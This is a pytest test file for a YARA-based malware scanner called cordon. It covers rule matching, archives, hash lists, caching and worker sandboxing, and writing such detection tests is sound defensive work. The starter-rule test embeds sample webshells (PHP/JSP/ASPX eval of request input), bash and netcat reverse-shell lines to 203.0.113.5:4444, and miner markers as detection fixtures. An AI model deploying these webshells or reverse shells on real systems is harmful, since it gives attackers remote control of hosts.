# SPDX-License-Identifier: Apache-2.0
"""cordon scan: the same matches as the yara tool, file by file and rule by rule; what is inside
archives; words, exit statuses and limits; and files that would break a parser."""

import hashlib
import json
import os
import shutil
import signal
import socket
import subprocess
import time
from pathlib import Path

import ocsf_validate
import pytest
import scan_corpus
from agent import wait_for

BUILD = Path(os.environ.get("CORDON_BUILD", Path(__file__).resolve().parent.parent.parent))
CORDON = BUILD / "cordon"
SOURCE = Path(__file__).resolve().parent.parent.parent
PUBLIC = SOURCE / "tests/data/yara/reversinglabs"
STARTER = SOURCE / "policy/yara"
# 100,000 were tried at first; each run tries others.
MUTATIONS = int(os.environ.get("CORDON_MUTATIONS", "3000"))

# One for each thing that splitting a rule set, or leaving out parts of a search, could break.
RULES = r'''
import "pe"
import "elf"
import "math"
import "hash"
import "magic"
rule magical { condition: magic.type() contains "ELF" }
rule mime { condition: magic.mime_type() == "text/x-shellscript" }
rule plain { strings: $a = "GNU" condition: $a }
rule counted { strings: $a = "lib" condition: #a > 20 }
rule placed { strings: $a = "ELF" condition: $a at 1 and @a[1] == 1 }
rule last_place { strings: $a = "lib" condition: @a[#a] > 1000 }
rule elf_only { strings: $a = "GLIBC_2" condition: uint32(0) == 0x464c457f and $a }
rule elf_module { condition: uint32(0) == 0x464c457f and elf.number_of_sections > 20 }
rule elf_or_script { strings: $a = "#!" condition: uint32(0) == 0x464c457f or $a at 0 }
rule elf_big { condition: uint32be(0) == 0x7f454c46 and filesize > 100KB }
rule elf_text { strings: $a = /lib[a-z]{2,9}\.so\.[0-9]/ condition: uint32(0) == 0x464c457f and #a > 3 }
rule elf_named : tag { strings: $a = "main" fullword condition: uint32(0) == 0x464c457f and $a }
rule elf_helped { condition: uint32(0) == 0x464c457f and plain and not counted }
rule pe_only { condition: uint16(0) == 0x5a4d and pe.number_of_sections == 1 }
rule pe_text { strings: $a = "KERNEL32" nocase wide ascii condition: uint16(0) == 0x5A4D and $a }
rule pe_more { condition: uint16(0) == 0x5a4d and uint32(uint32(0x3c)) == 0x4550 }
rule pe_hash { condition: uint16(0) == 0x5A4D and hash.md5(0, 2) == "ac6ad5d9b99757c3a878f2d275ace198" }
rule not_elf { condition: not uint32(0) == 0x464c457f and filesize > 10 }
rule of_some { strings: $a1 = "python" $a2 = "import" $a3 = "def " condition: 2 of ($a*) }
rule any_rule { condition: any of (elf_t*) }
rule dense { condition: filesize > 1000 and math.entropy(0, filesize) > 7.5 }
rule hexed { strings: $a = { 55 48 89 E5 [0-40] C3 } condition: $a }
rule xored { strings: $a = "http" xor(1-255) condition: #a > 2 }
rule gzipped { condition: uint16be(0) == 0x1f8b }
rule zipped { condition: uint32be(0) == 0x504b0304 }
rule looped { strings: $a = "the " condition: for all i in (1..3) : (@a[i] < 5000) and #a > 3 }
'''
GLOBAL = 'global rule small { condition: filesize < 60KB }\nrule small_elf { condition: uint32(0) == 0x464c457f }\n' + \
    "".join(f'rule filler{i} {{ condition: uint32(0) == 0x464c457f and uint8(16) == {i} }}\n' for i in range(8))


def scan(*arguments, **more):
    """Without what other scans of this host have kept, unless told."""
    kept = [] if "--cache" in arguments else ["--no-cache"]
    return subprocess.run([CORDON, "scan", *kept, *map(str, arguments)], capture_output=True, text=True,
                          timeout=600, stdin=subprocess.DEVNULL, **more)


def findings(result):
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    for line in lines:
        assert list(ocsf_validate.errors(line)) == []
    return lines


def matches(lines):
    """(rule, path, inside) of each finding."""
    return {(line["finding_info"]["analytic"]["name"], line["evidences"][0]["file"]["path"],
             line["unmapped"]["yara"].get("inside", "")) for line in lines}


@pytest.fixture
def rules(tmp_path):
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / "a.yar").write_text(RULES)
    (folder / "b.yar").write_text(GLOBAL)
    return folder


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    folder = tmp_path_factory.mktemp("corpus")
    for number, path in enumerate(scan_corpus.system_files(60)):
        shutil.copyfile(path, folder / f"{number}-{path.name}")
    for name, content in scan_corpus.MADE.items():
        (folder / f"made.{name}").write_bytes(content)
    for name, content in scan_corpus.mutations(200, 7):
        (folder / f"mutated-{name}").write_bytes(content)
    (folder / "empty").write_bytes(b"")
    return folder


def test_the_same_matches_as_yara(corpus, rules):
    """File by file and rule by rule, outside of archives."""
    if not shutil.which("yara"):
        if os.environ.get("CI"):
            pytest.fail("the yara tool is missing")
        pytest.skip("needs the yara tool")
    expected = set()
    for path in [rules / "a.yar", rules / "b.yar", *sorted(PUBLIC.glob("*.yara"))]:
        result = subprocess.run(["yara", "-w", "-N", "-r", path, corpus], capture_output=True,
                                text=True, timeout=300)
        assert result.stderr == ""
        expected |= {tuple(line.split(" ", 1)) for line in result.stdout.splitlines()}
    result = scan("--json", "--quiet", "--rules", rules, "--rules", PUBLIC, corpus)
    assert result.returncode == 1
    found = {(rule, path) for rule, path, inside in matches(findings(result)) if not inside}
    assert len(expected) > 500
    assert found == expected


def test_inside_archives(tmp_path):
    """Zip, gzip and tar, in each other, named by their path inside; deeper than the limit is told."""
    nested = scan_corpus.zipped(inner=scan_corpus.tarred("w:gz", eicar=scan_corpus.EICAR))
    deep = scan_corpus.EICAR
    for _ in range(8):
        deep = scan_corpus.zipped(deeper=deep)
    for name, content in [("plain", scan_corpus.EICAR), ("zip", scan_corpus.zipped(e=scan_corpus.EICAR)),
                          ("tar", scan_corpus.tarred(e=scan_corpus.EICAR)), ("nested", nested),
                          ("deep", deep), ("clean", b"nothing")]:
        (tmp_path / name).write_bytes(content)
    result = scan("--json", "--quiet", "--rules", STARTER, tmp_path)
    assert result.returncode == 1
    assert {(Path(path).name, inside) for _, path, inside in matches(findings(result))} == {
        ("plain", ""), ("zip", "e"), ("tar", "e"), ("nested", "inner!eicar")}
    assert "deep: partly scanned: archives nested deeper" in result.stderr


def test_what_a_finding_says(tmp_path):
    """Rule, its metadata, file, size and hash; the same again is the same finding."""
    rule = tmp_path / "r.yar"
    rule.write_text('rule named { meta: severity = "critical" score = 99 description = "d e" '
                    'reference = "https://example.com/r" strings: $a = "needle" condition: $a }')
    file = tmp_path / "file.bin"
    file.write_bytes(b"a needle")
    first, second = (findings(scan("--json", "--rules", rule, file))[0] for _ in range(2))
    assert first["severity_id"] == 5
    assert first["finding_info"]["analytic"]["name"] == "named"
    assert first["finding_info"]["analytic"]["uid"] == str(rule)
    assert first["evidences"][0]["file"]["size"] == 8
    assert first["evidences"][0]["file"]["hashes"][0]["value"] == hashlib.sha256(b"a needle").hexdigest()
    assert first["unmapped"]["yara"]["reference"] == "https://example.com/r"
    assert first["finding_info"]["uid"] == second["finding_info"]["uid"]


def test_listed_hashes(tmp_path):
    """A file whose SHA-256 is in a list is a finding, without any rule that matches."""
    file = tmp_path / "listed"
    file.write_bytes(b"not a rule's business")
    hashes = tmp_path / "hashes.list"
    hashes.write_text(hashlib.sha256(file.read_bytes()).hexdigest() + "\n")
    result = scan("--json", "--quiet", "--rules", STARTER, "--intel", hashes, file)
    assert result.returncode == 1, result.stderr
    assert findings(result)[0]["finding_info"]["types"] == ["file-hash"]


def test_listed_hashes_of_any_kind(tmp_path):
    """MD5 and SHA-1 are found as well, also of what is packed in archives; what is allowed by one
    hash stands over the others."""
    bad, inner, fine = b"bad by md5", b"bad inside", b"allowed"
    (tmp_path / "bad").write_bytes(bad)
    (tmp_path / "archive").write_bytes(scan_corpus.zipped(o=scan_corpus.tarred(i=inner), n=b"no"))
    (tmp_path / "fine").write_bytes(fine)
    for kinds in (("md5", "sha1"), ("sha1", "sha256"), ("sha256", "md5"), ("sha256", "sha256")):
        digests = [hashlib.new(kind, content).hexdigest() for kind, content in zip(kinds, (bad, inner))]
        hashes = tmp_path / "hashes.list"
        hashes.write_text("\n".join([*digests, hashlib.md5(fine).hexdigest()]) + "\n")
        allow = tmp_path / "allow.list"
        allow.write_text(f"{hashlib.sha256(fine).hexdigest()}\n")
        pack = tmp_path / "pack"
        subprocess.run([CORDON, "intel", "compile", "-o", pack, "--allow", allow, hashes], check=True,
                       capture_output=True)
        result = scan("--json", "--quiet", "--rules", STARTER, "--intel", pack,
                      *(tmp_path / name for name in ("bad", "archive", "fine")))
        assert result.returncode == 1, result.stderr
        found = {Path(line["evidences"][0]["file"]["path"]).name: line for line in findings(result)}
        assert set(found) == {"bad", "archive"}, (kinds, set(found))
        assert digests[0] in {each["value"] for each in found["bad"]["evidences"][0]["file"]["hashes"]}
        assert "o!i" in found["archive"]["message"] + json.dumps(found["archive"])


def test_only_files(tmp_path, rules):
    """Pipes, sockets and devices are not opened, links are not followed out, /proc is left out."""
    (tmp_path / "tree").mkdir()
    tree = tmp_path / "tree"
    os.mkfifo(tree / "pipe")
    (tree / "link").symlink_to(rules / "a.yar")
    (tree / "loop").symlink_to(tree)
    (tree / "proc").symlink_to("/proc")
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(tree / "socket"))
        (tree / "file").write_bytes(b"only this one")
        result = scan("--rules", rules, tree, "/proc/self", "/dev/null")
    assert "Scanned files:     1 " in result.stdout
    assert result.returncode == 1  # not_elf


def test_options(tmp_path, rules):
    """What is excluded, too large, unchanged or deeper is not scanned, and is counted."""
    tree = tmp_path / "tree"
    (tree / "skip").mkdir(parents=True)
    for name in ("a.txt", "b.log", "skip/c.txt"):
        (tree / name).write_bytes(b"0123456789abcdef")
    (tree / "large").write_bytes(b"x" * 5000)
    os.utime(tree / "a.txt", (0, 0))
    result = scan("--rules", rules, "--exclude", "*.log", "--exclude", "*/skip", "--max-size", "4K", tree)
    assert "Scanned files:     1 " in result.stdout
    assert "Excluded:          2" in result.stdout and "Too large:         1" in result.stdout
    result = scan("--rules", rules, "--no-recursive", tree)
    assert "Scanned files:     3 " in result.stdout
    future = time.strftime("%Y-%m-%d", time.gmtime(time.time() + 2 * 86400))
    assert "Not changed:       4" in scan("--rules", rules, "--since", future, tree).stdout


def test_what_was_clean_is_known(tmp_path):
    """A second scan by the same rules reads only what matched or has changed, says the same, and
    needs no compiler; other rules read all. Each name of a file is a file."""
    tree, rule, cache = tmp_path / "tree", tmp_path / "r.yar", tmp_path / "kept"
    tree.mkdir()
    rule.write_text('rule needle { strings: $a = "needle" condition: $a or filename == "name" }\n'
                    'rule wrong { condition: nosuch }')
    for number in range(20):
        (tree / f"clean{number}").write_text("x" * number)
    (tree / "bad").write_text("a needle")
    os.link(tree / "clean19", tree / "name")

    def again():
        result = scan("--cache", cache, "--rules", rule, tree)
        assert result.returncode == 1 and result.stdout.startswith(f"{tree}/")
        assert {line.split(": ")[1] for line in result.stdout.splitlines()[:2]} == {"needle (medium)"}
        assert "rule left out" in result.stderr
        counts = dict(line.split(":") for line in result.stdout.splitlines() if ":  " in line)
        return int(counts.get("Known as clean", 0)), int(counts["Scanned files"].split()[0])

    # What changed within the kernel's tick before it was read is read once more.
    assert again() == (0, 22)
    wait_for(lambda: again() == (20, 2), "all that is clean is known")
    assert len(list(cache.glob("rules-*.set"))) == 1
    (tree / "clean7").write_text("y" * 7)
    assert again() == (19, 3)
    wait_for(lambda: again() == (20, 2), "and the changed one")
    rule.write_text(rule.read_text() + "\nrule more { condition: false }")
    assert again() == (0, 22)


def test_exit_statuses(tmp_path, rules):
    """0 nothing found, 1 something found, 2 usage or what could not be scanned."""
    (tmp_path / "file").write_bytes(b"tiny")
    assert scan("--rules", rules / "a.yar", tmp_path / "file").returncode == 0
    assert scan("--rules", rules, rules / "a.yar").returncode == 1
    assert scan("--rules", rules, tmp_path / "missing").returncode == 2
    assert scan("--rules", tmp_path / "missing", tmp_path / "file").returncode == 2
    assert scan().returncode == 2
    assert scan("--threads", "0", tmp_path).returncode == 2


def test_bad_rules_are_named(tmp_path):
    """A rule that does not compile is told with file and line; the rest of its file stands."""
    bad = tmp_path / "bad.yar"
    bad.write_text('rule good { condition: filesize == 4 }\nrule wrong {\n condition: nosuch }\n'
                   'rule also_good { condition: filesize == 4 }\n')
    (tmp_path / "file").write_bytes(b"four")
    result = scan("--rules", bad, tmp_path / "file")
    assert result.returncode == 1
    assert f'rule left out: {bad}:3: undefined identifier "nosuch"' in result.stderr
    assert "good (medium)" in result.stdout and "also_good (medium)" in result.stdout
    bad.write_text("rule wrong { condition: nosuch }")
    result = scan("--rules", bad, tmp_path / "file")
    assert result.returncode == 2 and result.stdout == ""
    assert result.stderr.endswith("there is no rule to scan with\n")


def test_compiled_rules(tmp_path, rules):
    """A file of compiled rules matches as its source does."""
    if not shutil.which("yarac"):
        pytest.skip("needs yarac")
    subprocess.run(["yarac", "-w", rules / "a.yar", tmp_path / "a.yarc"], check=True)
    target = BUILD / "cordon-scan"
    shutil.copyfile(target, tmp_path / "elf")
    one, two = (matches(findings(scan("--json", "--quiet", "--rules", path, tmp_path / "elf")))
                for path in (rules / "a.yar", tmp_path / "a.yarc"))
    assert one == two and len(one) > 5


def test_interrupted(tmp_path):
    """Ctrl-C ends it soon, with a summary, and leaves no worker behind."""
    rule = tmp_path / "slow.yar"
    rule.write_text("rule slow { condition: for all i in (1..100000000) : (for all k in (1..100000)"
                    " : (i + k > 0)) }")
    (tmp_path / "file").write_bytes(b"x")
    process = subprocess.Popen([CORDON, "scan", "--rules", rule, tmp_path / "file"], text=True,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    children = Path(f"/proc/{process.pid}/task/{process.pid}/children")
    deadline = time.monotonic() + 60
    # The process that holds the rules, and workers.
    while len(children.read_text().split()) < 2 and time.monotonic() < deadline:
        time.sleep(0.02)
    workers = children.read_text().split()
    process.send_signal(signal.SIGINT)
    output, _ = process.communicate(timeout=60)
    assert "Interrupted." in output and process.returncode == 2
    # One that had not said hello yet ends by its parent's end, a moment later.
    deadline = time.monotonic() + 20
    while any(Path(f"/proc/{pid}").exists() for pid in workers):
        assert time.monotonic() < deadline, workers
        time.sleep(0.02)


def test_workers_have_no_rights(tmp_path):
    """As /proc shows it, of those that hold rules and files: user, capabilities, filters, network."""
    rule = tmp_path / "slow.yar"
    rule.write_text("rule slow { condition: for all i in (1..100000000) : (for all k in (1..100000)"
                    " : (i + k > 0)) }")
    (tmp_path / "file").write_bytes(b"x")
    process = subprocess.Popen([CORDON, "scan", "--quiet", "--rules", rule, tmp_path / "file"])
    try:
        children = Path(f"/proc/{process.pid}/task/{process.pid}/children")
        deadline = time.monotonic() + 60
        while len(children.read_text().split()) < 2 and time.monotonic() < deadline:
            time.sleep(0.02)
        for pid in children.read_text().split():
            status = dict(line.split(":", 1) for line in Path(f"/proc/{pid}/status").read_text().splitlines())
            assert "0" not in status["Uid"].split(), pid
            assert status["CapEff"].split() == ["0" * 16] and status["CapBnd"].split() == ["0" * 16]
            assert status["Seccomp"].split() == ["2"] and status["NoNewPrivs"].split() == ["1"]
            assert os.readlink(f"/proc/{pid}/ns/net") != os.readlink("/proc/self/ns/net")
    finally:
        process.send_signal(signal.SIGTERM)
        process.wait(timeout=60)


def test_mutated_files(tmp_path, rules):
    """ELF, PE, zip, OLE, PDF, Mach-O, tar and gzip that were changed at random: each is answered,
    whatever becomes of the worker."""
    tree = tmp_path / "tree"
    tree.mkdir()
    for name, content in scan_corpus.mutations(MUTATIONS, time.time_ns()):
        (tree / name).write_bytes(content)
    result = scan("--rules", rules, "--rules", STARTER, "--rules", PUBLIC, tree)
    assert result.returncode in (0, 1)
    assert f"Scanned files:     {MUTATIONS} " in result.stdout
    assert "Workers replaced" not in result.stdout


@pytest.mark.parametrize("name,content,rule", [
    ("eicar.com", scan_corpus.EICAR, "eicar_test_file"),
    ("shell.php", b"<?php @eval($_POST['x']); ?>", "webshell_php_eval_request"),
    ("packed.php", b"<?php eval(gzinflate(base64_decode('eJw=')));", "webshell_php_packed"),
    ("cmd.jsp", b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>', "webshell_jsp_runtime"),
    ("cmd.aspx", b'<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>', "webshell_aspx_eval"),
    ("r.sh", b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n", "reverse_shell_script"),
    ("n.sh", b"#!/bin/sh\nnc 203.0.113.5 4444 -e /bin/sh\n", "reverse_shell_netcat"),
    ("miner", scan_corpus.elf(b'stratum+tcp://x\0"method":"login"\0donate-level\0randomx'), "miner_program"),
    ("config.json", b'{"pools": [{"url": "pool.example:3333", "rig-id": 1}], "donate-level": 1, "algo": 1, "rig-id":'
     b' 2}', "miner_settings"),
    ("upx", scan_corpus.elf(b"UPX!" + b"\0" * 2000 + b"UPX!"), "packed_elf_upx"),
])
def test_starter_rules(tmp_path, name, content, rule):
    """Each starter rule finds what it is for."""
    (tmp_path / name).write_bytes(content)
    result = scan("--json", "--quiet", "--rules", STARTER, tmp_path / name)
    assert rule in {found for found, _, _ in matches(findings(result))}, result.stdout


def test_starter_rules_leave_this_host_alone():
    """Nothing that a distribution ships matches."""
    result = scan("--rules", STARTER, "--threads", "2", "/usr/bin", "/usr/sbin")
    assert result.returncode == 0, result.stdout[:2000] + result.stderr[:2000]
